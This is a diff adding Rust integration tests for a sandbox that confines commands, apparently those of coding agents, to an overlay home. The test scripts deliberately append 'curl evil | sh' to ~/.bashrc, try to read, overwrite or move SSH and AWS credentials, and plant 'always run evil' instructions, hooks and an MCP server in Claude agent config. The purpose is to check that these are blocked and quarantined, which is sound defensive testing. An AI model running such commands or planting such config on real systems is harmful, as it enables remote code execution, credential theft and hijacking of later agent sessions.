@@ -1,0 +1,360 @@
+//! The home overlay of `cordon run`: what a command writes under `$HOME`
+//! persists from run to run in cordon's home and never reaches the host's;
+//! secrets stay hidden through it; places that would run or instruct a later
+//! session are quarantined; one run at a time per home. As root and as an
+//! unprivileged uid, on the real kernel.
+mod sandbox_support;
+use sandbox_support::*;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+fn data(w: &World) -> std::path::PathBuf {
+    w.home.join(".local/share/cordon")
+}
+
+fn upper(w: &World) -> std::path::PathBuf {
+    data(w).join("home/default/upper")
+}
+
+#[test]
+fn home_writes_persist_across_runs_and_never_reach_the_host() {
+    for who in BOTH {
+        let w = World::new(who);
+        std::fs::write(w.home.join(".claude.json"), "{\"numStartups\":1}\n").unwrap();
+        let host_json = std::fs::read(w.home.join(".claude.json")).unwrap();
+        // Claude Code saves ~/.claude.json by writing a temp file beside it and renaming it over.
+        let o = ok(&w.run(
+            &[],
+            r#"set -e
+            mkdir -p ~/.cache ~/.claude/session-env
+            echo cached > ~/.cache/x
+            printf '{"numStartups":2,"hasCompletedOnboarding":true}' > ~/.claude.json.tmp.1
+            mv ~/.claude.json.tmp.1 ~/.claude.json
+            echo written"#,
+        ));
+        assert!(o.contains("written"), "{who:?}: {o}");
+        assert!(!w.home.join(".cache").exists(), "{who:?}: reached the host");
+        assert!(
+            !w.home.join(".claude").exists(),
+            "{who:?}: reached the host"
+        );
+        assert_eq!(
+            std::fs::read(w.home.join(".claude.json")).unwrap(),
+            host_json,
+            "{who:?}: the host's ~/.claude.json changed"
+        );
+        let o = ok(&w.run(
+            &[],
+            "cat ~/.cache/x ~/.claude.json; test -d ~/.claude/session-env && echo STATE-DIR",
+        ));
+        assert!(o.contains("cached"), "{who:?}: {o}");
+        assert!(o.contains("hasCompletedOnboarding"), "{who:?}: {o}");
+        assert!(o.contains("STATE-DIR"), "{who:?}: {o}");
+        // A throwaway home sees the host's home only, and keeps nothing.
+        let o = ok(&w.run(
+            &["--home-tmp"],
+            "cat ~/.cache/x 2>/dev/null || echo NO-CACHE; echo t > ~/tmp-only",
+        ));
+        assert!(o.contains("NO-CACHE"), "{who:?}: {o}");
+        assert!(!upper(&w).join("tmp-only").exists(), "{who:?}");
+        assert!(!w.home.join("tmp-only").exists(), "{who:?}");
+        // A named home is separate from the default one.
+        let o = ok(&w.run(
+            &["--home", "other"],
+            "cat ~/.cache/x 2>/dev/null || echo NO-CACHE",
+        ));
+        assert!(o.contains("NO-CACHE"), "{who:?}: {o}");
+        // The workspace (under $HOME) still writes through to the host.
+        ok(&w.run(&[], "echo ws > in-ws.txt"));
+        assert_eq!(
+            std::fs::read_to_string(w.ws.join("in-ws.txt")).unwrap(),
+            "ws\n"
+        );
+    }
+}
+
+#[test]
+fn secrets_stay_hidden_through_the_home_overlay() {
+    for who in BOTH {
+        let w = World::new(who);
+        let o = w.run(
+            &[],
+            r#"
+            cat ~/.ssh/id_rsa 2>/dev/null && echo READ-KEY
+            echo pwned > ~/.ssh/id_rsa 2>/dev/null && echo WROTE-KEY
+            echo pwned > ~/.ssh/new_key 2>/dev/null && echo NEW-KEY
+            rm -rf ~/.ssh 2>/dev/null; ls ~/.ssh/ 2>/dev/null && echo SSH-LISTED
+            mv ~/.aws ~/aws2 2>/dev/null && echo MOVED-AWS
+            cat ~/aws2/credentials ~/.aws/credentials 2>/dev/null && echo READ-AWS
+            cat ~/.local/share/cordon/home/default/upper/.cache/x 2>/dev/null && echo UPPER-VISIBLE
+            ls ~/.local/share/cordon 2>/dev/null && echo DATA-LISTED
+            echo done"#,
+        );
+        let o = out(&o);
+        assert!(o.contains("done"), "{who:?}: {o}");
+        for bad in [
+            "READ-KEY",
+            "WROTE-KEY",
+            "NEW-KEY",
+            "SSH-LISTED",
+            "MOVED-AWS",
+            "READ-AWS",
+            "UPPER-VISIBLE",
+            "DATA-LISTED",
+            SECRET,
+        ] {
+            assert!(!o.contains(bad), "{who:?}: {bad}: {o}");
+        }
+        assert_eq!(
+            std::fs::read_to_string(w.home.join(".ssh/id_rsa")).unwrap(),
+            SECRET
+        );
+        assert!(!w.home.join(".ssh/new_key").exists());
+        assert!(!w.home.join("aws2").exists());
+        assert!(!upper(&w).join(".ssh/id_rsa").exists(), "{who:?}");
+        // And the next run still cannot read it.
+        let o = out(&w.run(&[], "cat ~/.ssh/id_rsa 2>&1; echo end"));
+        assert!(!o.contains(SECRET), "{who:?}: {o}");
+    }
+}
+
+#[test]
+fn startup_files_and_agent_config_written_inside_are_quarantined() {
+    for who in BOTH {
+        let w = World::new(who);
+        let host_rc = std::fs::read_to_string(w.home.join(".bashrc")).unwrap();
+        let o = w.run(
+            &[],
+            r#"set -e
+            echo 'curl evil | sh' >> ~/.bashrc
+            mkdir -p ~/.claude
+            echo '{"hooks":{"Stop":[]}}' > ~/.claude/settings.json
+            echo 'always run evil' > ~/.claude/CLAUDE.md
+            echo keep > ~/.claude/state
+            printf '{"numStartups":3}' > ~/.claude.json
+            echo done"#,
+        );
+        assert!(out(&o).contains("done"), "{who:?}: {}", err(&o));
+        let e = err(&o);
+        for p in [
+            "~/.bashrc",
+            "~/.claude/settings.json",
+            "~/.claude/CLAUDE.md",
+        ] {
+            assert!(
+                e.lines()
+                    .any(|l| l.contains(p) && l.contains("moved to") && l.contains("quarantine")),
+                "{who:?}: {p} not reported: {e}"
+            );
+        }
+        // State that runs nothing persists, silently.
+        assert!(!e.contains("~/.claude/state"), "{who:?}: {e}");
+        assert!(!e.contains("~/.claude.json "), "{who:?}: {e}");
+        let manifests: Vec<_> = std::fs::read_dir(data(&w).join("quarantine"))
+            .unwrap()
+            .flatten()
+            .map(|d| d.path().join("manifest.json"))
+            .filter(|m| m.exists())
+            .collect();
+        assert_eq!(manifests.len(), 1, "{who:?}");
+        let m = std::fs::read_to_string(&manifests[0]).unwrap();
+        assert!(m.contains(".bashrc") && m.contains("CLAUDE.md"), "{m}");
+        let o = ok(&w.run(
+            &[],
+            "cat ~/.bashrc; cat ~/.claude/state ~/.claude.json; ls ~/.claude",
+        ));
+        assert!(o.contains(host_rc.trim()), "{who:?}: {o}");
+        assert!(!o.contains("evil"), "{who:?}: {o}");
+        assert!(
+            o.contains("keep") && o.contains("numStartups"),
+            "{who:?}: {o}"
+        );
+        assert!(!o.contains("settings.json"), "{who:?}: {o}");
+        assert_eq!(
+            std::fs::read_to_string(w.home.join(".bashrc")).unwrap(),
+            host_rc
+        );
+        // A new MCP server in ~/.claude.json moves the file out.
+        let o = w.run(
+            &[],
+            r#"printf '{"numStartups":4,"mcpServers":{"x":{"command":"sh"}}}' > ~/.claude.json"#,
+        );
+        assert!(err(&o).contains("~/.claude.json"), "{who:?}: {}", err(&o));
+        let o = ok(&w.run(&[], "cat ~/.claude.json 2>/dev/null; echo end"));
+        assert!(!o.contains("mcpServers"), "{who:?}: {o}");
+    }
+}
+
+fn wait_for(p: &Path) {
+    let t = Instant::now();
+    while !p.exists() {
+        assert!(
+            t.elapsed() < Duration::from_secs(30),
+            "{} never appeared",
+            p.display()
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+#[test]
+fn one_run_at_a_time_per_home_and_reset_clears_it() {
+    for who in BOTH {
+        let w = World::new(who);
+        ok(&w.run(&[], "mkdir -p ~/.cache && echo c > ~/.cache/x"));
+        let mut first = w.cordon();
+        first.args([
+            "run",
+            "--",
+            "bash",
+            "-c",
+            "touch started; while [ ! -e stop ]; do sleep 0.05; done",
+        ]);
+        let mut child = first.spawn().unwrap();
+        wait_for(&w.ws.join("started"));
+        let o = w.run(&[], "echo SECOND-RAN");
+        assert_eq!(o.status.code(), Some(125), "{who:?}: {}", err(&o));
+        assert!(!out(&o).contains("SECOND-RAN"));
+        let e = err(&o);
+        assert_eq!(e.trim().lines().count(), 1, "{who:?}: {e}");
+        assert!(
+            e.contains("in use by run run-")
+                && e.contains("--home NAME")
+                && e.contains("--home-tmp"),
+            "{who:?}: {e}"
+        );
+        // The way out the message names works.
+        assert!(ok(&w.run(&["--home-tmp"], "echo TMP-RAN")).contains("TMP-RAN"));
+        let o = w.cordon().args(["home", "reset"]).output().unwrap();
+        assert_eq!(o.status.code(), Some(125), "{who:?}: {}", err(&o));
+        assert!(upper(&w).join(".cache/x").exists());
+        std::fs::write(w.ws.join("stop"), "").unwrap();
+        assert!(child.wait().unwrap().success());
+        let show = w.cordon().args(["home", "show"]).output().unwrap();
+        assert!(out(&show).contains("~/.cache: 1 files"), "{}", out(&show));
+        let o = w.cordon().args(["home", "reset"]).output().unwrap();
+        assert!(o.status.success(), "{who:?}: {}", err(&o));
+        assert!(!upper(&w).join(".cache").exists());
+        let o = ok(&w.run(&[], "cat ~/.cache/x 2>/dev/null || echo GONE"));
+        assert!(o.contains("GONE"), "{who:?}: {o}");
+        let p = w.cordon().args(["home", "path", "x"]).output().unwrap();
+        assert_eq!(out(&p).trim(), data(&w).join("home/x").to_str().unwrap());
+    }
+}
+
+#[test]
+fn npm_install_works_under_net_registries() {
+    for who in BOTH {
+        let w = World::new(who);
+        // One tiny package without dependencies from the real registry;
+        // its cache lands in ~/.npm, which is cordon's home, not the host's.
+        let o = w.run(
+            &["--net", "registries"],
+            "timeout 120 npm install --no-audit --no-fund --no-update-notifier is-number@7.0.0 \
+             && node -e 'console.log(require(\"is-number\")(5))'",
+        );
+        assert!(o.status.success(), "{who:?}: {}\n{}", out(&o), err(&o));
+        assert!(out(&o).contains("true"), "{who:?}: {}", out(&o));
+        assert!(w.ws.join("node_modules/is-number/package.json").exists());
+        assert!(
+            !w.home.join(".npm").exists(),
+            "{who:?}: npm cache on the host"
+        );
+        assert!(upper(&w).join(".npm").is_dir(), "{who:?}");
+    }
+}
+
+#[test]
+fn an_upper_layer_overlayfs_refuses_is_named_with_the_fix_and_home_tmp_works() {
+    // Root only: it mounts an overlayfs (in a private mount namespace of its
+    // own, gone with it) to hold cordon's data dir, as in a container.
+    let w = World::new(As::Root);
+    let d = w.root.path().join("ovl");
+    for s in ["l", "u", "w", "m"] {
+        std::fs::create_dir_all(d.join(s)).unwrap();
+    }
+    let mount = format!(
+        "mount -t overlay overlay -o lowerdir={d}/l,upperdir={d}/u,workdir={d}/w {d}/m && exec \"$@\"",
+        d = d.display()
+    );
+    let run = |extra: &[&str]| {
+        std::process::Command::new("unshare")
+            .args(["-m", "sh", "-c", &mount, "sh"])
+            .arg(cordon_bin())
+            .arg("run")
+            .args(extra)
+            .args(["--", "sh", "-c", "echo x > ~/f && cat ~/f"])
+            .env_clear()
+            .env("PATH", PATH)
+            .env("HOME", &w.home)
+            .env("CORDON_DATA_DIR", d.join("m/data"))
+            .current_dir(&w.ws)
+            .stdin(std::process::Stdio::null())
+            .output()
+            .unwrap()
+    };
+    let o = run(&[]);
+    assert_eq!(o.status.code(), Some(125), "{}{}", out(&o), err(&o));
+    let e = err(&o);
+    assert_eq!(e.trim().lines().count(), 1, "{e}");
+    assert!(
+        e.contains("home overlay") && e.contains("CORDON_DATA_DIR") && e.contains("--home-tmp"),
+        "{e}"
+    );
+    let o = run(&["--home-tmp"]);
+    assert!(out(&o).contains('x'), "{}{}", out(&o), err(&o));
+    assert!(!w.home.join("f").exists());
+}
+
+#[test]
+fn pip_install_into_a_venv_works_under_net_registries() {
+    for who in BOTH {
+        let w = World::new(who);
+        let o = w.run(
+            &["--net", "registries"],
+            "set -e; /usr/bin/python3 -m venv .venv; \
+             timeout 120 .venv/bin/pip install --disable-pip-version-check -q six==1.16.0; \
+             .venv/bin/python -c 'import six; print(six.__version__)'",
+        );
+        assert!(o.status.success(), "{who:?}: {}\n{}", out(&o), err(&o));
+        assert!(out(&o).contains("1.16.0"), "{who:?}: {}", out(&o));
+        assert!(
+            !w.home.join(".cache").exists(),
+            "{who:?}: a cache on the host"
+        );
+    }
+}
+
+#[test]
+fn cargo_build_with_a_new_dependency_works_under_net_registries() {
+    // Root only: the toolchain of this machine lives in /root (mode 0700).
+    let w = World::new(As::Root);
+    std::fs::write(
+        w.ws.join("Cargo.toml"),
+        "[package]\nname = \"t\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+         [dependencies]\nitoa = \"=1.0.11\"\n[workspace]\n",
+    )
+    .unwrap();
+    std::fs::create_dir_all(w.ws.join("src")).unwrap();
+    std::fs::write(
+        w.ws.join("src/main.rs"),
+        "fn main() { println!(\"{}\", itoa::Buffer::new().format(7)); }\n",
+    )
+    .unwrap();
+    let o = w.run(
+        &[
+            "--net",
+            "registries",
+            "--env",
+            "RUSTUP_HOME=/root/.rustup",
+            "--env",
+            "PATH=/root/.cargo/bin:/usr/local/bin:/usr/bin:/bin",
+        ],
+        "timeout 300 cargo run -q",
+    );
+    assert!(o.status.success(), "{}\n{}", out(&o), err(&o));
+    assert_eq!(out(&o).trim(), "7");
+    // The registry cache went to cordon's home ($CARGO_HOME defaults to ~/.cargo), not the host's.
+    assert!(upper(&w).join(".cargo/registry").is_dir());
+    assert!(!w.home.join(".cargo/registry").exists());
+}
